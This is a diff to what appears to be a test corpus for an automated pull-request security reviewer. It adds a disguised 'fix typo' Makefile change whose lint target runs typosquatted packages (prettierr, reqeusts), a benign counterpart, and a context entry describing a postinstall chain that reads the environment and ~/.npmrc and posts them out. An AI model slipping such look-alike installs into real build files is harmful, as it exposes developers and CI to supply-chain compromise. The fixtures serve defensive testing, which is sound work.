@@ -5035,6 +5035,32 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
   },
   {
+    id: 'attack-makefile-installs-lookalike-tools',
+    description:
+      'The look-alike packages of 2024-2025 brought in outside any manifest: a "fix typo in Makefile" PR makes the lint target run `npx -y prettierr` and `pip install reqeusts`; no package.json, requirements file or lockfile changes, and every developer who runs `make lint` (and CI) runs the look-alikes.',
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11093,
+        title: 'fix typo in Makefile',
+        author: 'newcomer',
+        files: [{ path: 'Makefile', base: lines('.PHONY: lint', 'lint:', '\truff check .'), head: lines('.PHONY: lint', 'lint:', '\tnpx -y prettierr --check .', '\tpython3 -m pip install -q reqeusts', '\truff check .') }],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['typosquat'] },
+  },
+  {
+    id: 'benign-makefile-installs-popular-tools',
+    description: "The benign look-alike: a maintainer's lint target runs prettier by name at a major version, installs requests and mkdocs-material with pip and goimports at a release: popular names, no look-alike.",
+    fixture: () =>
+      attackPr({
+        repo: 'tinted',
+        number: 11094,
+        title: 'build: lint target runs the formatters',
+        files: [{ path: 'Makefile', base: lines('.PHONY: lint', 'lint:', '\truff check .'), head: lines('.PHONY: lint', 'lint:', '\tnpx -y prettier@3 --check .', '\tpython3 -m pip install -q requests mkdocs-material', '\tgo install golang.org/x/tools/cmd/goimports@v0.24.0', '\truff check .') }],
+      }),
+    expect: { level: ['low', 'medium'], action: ['approve', 'comment'], absentDrivers: ['finding:typosquat'] },
+  },
+  {
     id: 'attack-install-chain-split-over-modules',
     description:
       'The Shai-Hulud chain spread thinner: a "show a usage notice after install" PR adds `postinstall: node scripts/notice.js`; notice.js prints a line and requires lib/notice/index.js, which requires ./report.js, which takes the environment and ~/.npmrc and posts them to the GitHub API: no file alone looks like an install script, and the stealer is the third file down.',
